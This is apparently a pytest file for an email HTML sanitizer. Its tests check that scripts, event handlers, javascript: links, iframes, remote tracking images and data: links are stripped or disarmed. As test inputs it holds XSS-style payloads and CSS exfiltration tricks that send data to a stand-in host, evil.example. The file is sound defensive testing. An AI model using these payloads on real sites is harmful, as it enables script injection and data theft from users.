"""What inbound HTML becomes before anyone sees it."""

from __future__ import annotations

from comptoir.lib.html import has_remote_images, sanitize


def test_scripts_handlers_and_javascript_links_are_removed() -> None:
    out = sanitize(
        '<p onclick="steal()">Bonjour<script>alert(1)</script></p>'
        '<a href="javascript:alert(1)">x</a><iframe src="https://evil.example"></iframe>'
        '<svg onload="x()"><a xlink:href="javascript:y()">z</a></svg>'
    )
    assert "script" not in out
    assert "alert" not in out
    assert "onclick" not in out
    assert "onload" not in out
    assert "javascript:" not in out
    assert "iframe" not in out


def test_styles_cannot_exfiltrate() -> None:
    out = sanitize(
        '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>'
        '<div style="background:url(https://evil.example/b)">x</div>'
        '<table background="https://evil.example/c"><tr><td>1</td></tr></table>'
        '<link rel="stylesheet" href="https://evil.example/d.css">'
    )
    assert "evil.example" not in out


def test_remote_images_are_disarmed_until_allowed_and_inline_ones_kept() -> None:
    out = sanitize(
        '<img src="https://track.example/p.gif?id=1&amp;u=2" alt="logo">'
        '<img src="cid:photo1@x" alt="photo"><img src="data:image/png;base64,iVBORw0=">'
    )
    assert 'data-remote-src="https://track.example/p.gif?id=1&amp;u=2"' in out
    assert ' src="https://' not in out
    assert 'src="cid:photo1@x"' in out
    assert 'src="data:image/png;base64,iVBORw0="' in out
    assert has_remote_images(out)
    assert not has_remote_images(sanitize('<img src="cid:a@b">'))


def test_links_are_kept_safe_to_follow() -> None:
    out = sanitize(
        '<a href="https://shop.example/suivi">suivi</a><a href="data:text/html,<h1>x">piège</a>'
    )
    assert 'href="https://shop.example/suivi"' in out
    assert 'rel="noopener noreferrer nofollow"' in out
    assert "data:text/html" not in out
